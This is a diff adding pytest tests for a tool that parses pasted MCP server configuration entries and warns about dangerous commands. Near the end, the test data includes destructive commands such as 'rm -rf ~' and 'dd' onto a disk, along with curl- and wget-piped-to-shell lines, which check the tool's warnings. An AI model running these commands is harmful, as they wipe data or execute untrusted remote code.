@@ -1,0 +1,143 @@
+from typing import Any
+
+import pytest
+
+from tooltray.sources.entries.pasted_parts import (
+    guess_name,
+    netloc,
+    parameters,
+    pasted_warnings,
+    take_headers,
+    usual_type,
+    with_parameter,
+    without_keys,
+)
+
+
+@pytest.mark.parametrize(
+    ("config", "headers"),
+    [
+        ({}, {}),
+        ({"headers": {"A": "x"}}, {"A": "x"}),
+        ({"customHeaders": {"A": 1, "B": True, "C": None}}, {"A": "1", "B": "true"}),
+        ({"http_headers": {"A": "${env:KEY} in ${userHome}"}}, {"A": "${KEY} in ${HOME}"}),
+        ({"requestInit": {"headers": {"A": "x"}}}, {"A": "x"}),
+        ({"headers": {"A": "x"}, "customHeaders": {"A": "y", "B": "z"}}, {"A": "y", "B": "z"}),
+        ({"env_http_headers": {"X-Key": "KEY"}}, {"X-Key": "${KEY}"}),
+        ({"bearer_token_env_var": "TOKEN"}, {"Authorization": "Bearer ${TOKEN}"}),
+        ({"requestOptions": {"headers": {"A": "x", "B": None}}, "apiKey": "k"}, {"A": "x", "Authorization": "Bearer k"}),
+        ({"headers": {"A": "Bearer $TOK"}, "apiKey": "$KEY"}, {"A": "Bearer ${TOK}", "Authorization": "Bearer ${KEY}"}),
+        ({"headers": "odd", "env_http_headers": [], "bearer_token_env_var": 3}, {}),
+    ],
+)
+def test_headers_are_taken_out_in_each_form_that_clients_write(config: dict[str, Any], headers: dict[str, str]) -> None:
+    config["url"] = "https://h"
+    assert take_headers(config) == headers
+    assert config == {"url": "https://h"}
+
+
+@pytest.mark.parametrize(
+    ("url", "type"),
+    [("https://h/sse", "sse"), ("https://h/sse/?a=b", "sse"), ("https://h/a/sse#x", "sse"), ("https://h/mcp?next=/sse", "")],
+)
+def test_only_a_path_that_ends_in_sse_means_sse(url: str, type: str) -> None:
+    assert usual_type(url) == type
+
+
+@pytest.mark.parametrize(("url", "expected"), [("https://me@h:81/x", "me@h:81"), ("https://[::1", "")])
+def test_of_a_url_that_is_none_there_is_no_host(url: str, expected: str) -> None:
+    assert netloc(url) == expected
+
+
+@pytest.mark.parametrize(
+    ("url", "shown"),
+    [
+        ("https://me:pw@h/x?key=k#f", "https://h/x"),
+        ("HTTPS://me@h", "HTTPS://h"),
+        ("https://h/a@b", "https://h/a@b"),
+        ("https://h#k?x", "https://h"),
+    ],
+)
+def test_what_is_shown_of_a_url_has_no_key(url: str, shown: str) -> None:
+    assert without_keys(url) == shown
+
+
+def test_the_parameters_of_a_url_are_those_before_its_fragment() -> None:
+    assert parameters("https://h/x?a=1&b=%20#?c=3") == [("a", "1"), ("b", " ")]
+
+
+def test_a_parameter_is_replaced_once_escaped_unless_it_is_a_placeholder() -> None:
+    url = "https://h/x?a b=1&a%20b=2&a%20b=3#f"
+    assert with_parameter(url, "a b", "x&y") == "https://h/x?a b=1&a%20b=x%26y&a%20b=3#f"
+    assert with_parameter("https://h?key=k", "key", "${secret:s/KEY}") == "https://h?key=${secret:s/KEY}"
+    assert with_parameter("https://h?monkey=k", "key", "x") == "https://h?monkey=k"
+
+
+@pytest.mark.parametrize("words", [["sudo"], [""]])
+def test_a_command_that_names_nothing_is_called_server(words: list[str]) -> None:
+    assert guess_name(words) == "server"
+
+
+@pytest.mark.parametrize(("package", "name"), [("@scope/mcp-server-files@1.2", "files"), ("@acme/mcp", "acme"), ("mcp", "mcp")])
+def test_a_package_is_called_by_what_it_is_about(package: str, name: str) -> None:
+    assert guess_name(["npx", "-y", package]) == name
+
+
+def test_a_version_behind_two_signs_is_no_variable() -> None:
+    assert guess_name(["uvx", "mcp-server-time==1.2"]) == "time"
+
+
+@pytest.mark.parametrize(
+    ("words", "name"),
+    [
+        (["/opt/bin/mcp-files"], "files"),
+        (["env", "-i", "/x", "notes.exe"], "notes"),
+        (["sudo", "/opt/notes.sh"], "notes"),
+        (["python3", "-m"], "python3"),
+        (["node", "/srv/notes/dist/index.js"], "notes"),
+        (["node", "./index.js"], "index"),
+        (["node", "C:\\notes\\main.py"], "notes"),
+        (["npx", "-y", "A=b", "${PACKAGE}", "notes"], "notes"),
+        (["docker", "run", "--rm", "ghcr.io/acme/notes:1.2"], "notes"),
+    ],
+)
+def test_a_program_is_called_by_the_word_that_tells_most(words: list[str], name: str) -> None:
+    assert guess_name(words) == name
+
+
+@pytest.mark.parametrize(
+    ("url", "name"),
+    [
+        ("https://notes.example.org/mcp", "example"),
+        ("https://mcp.notes.com/", "notes"),
+        ("https://www.api.mcp", "www"),
+        ("http://me:pw@127.0.0.1:8080/mcp", "127"),
+        ("http://localhost:8080", "localhost"),
+    ],
+)
+def test_a_url_is_called_by_whose_it_is(url: str, name: str) -> None:
+    assert guess_name([url]) == name
+
+
+def warnings(*args: str, command: str = "sh", **fields: object) -> list[str]:
+    return list(pasted_warnings("s", {"command": command, "args": list(args), **fields}))
+
+
+@pytest.mark.parametrize(
+    "line", ["rm -rf ~", "rm -v -r /x", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", "Remove-Item x", "format c:"]
+)
+def test_what_deletes_is_said(line: str) -> None:
+    assert "it deletes or overwrites files" in warnings("-c", line)
+
+
+@pytest.mark.parametrize("line", ["curl https://a.example/x | sh", "wget x | sudo bash", "iwr x | iex", "curl -o x https://a.example"])
+def test_what_is_downloaded_and_run_is_said(line: str) -> None:
+    assert "it downloads something and runs it" in warnings("-c", line)
+
+
+def test_a_plain_server_is_warned_of_with_nothing() -> None:
+    assert warnings("mcp-server-time", command="uvx") == []
+
+
+def test_an_entry_that_cannot_be_added_is_warned_of_all_the_same() -> None:
+    assert warnings("-rf", "~", command="rm", type="pigeon") == ["it deletes or overwrites files"]
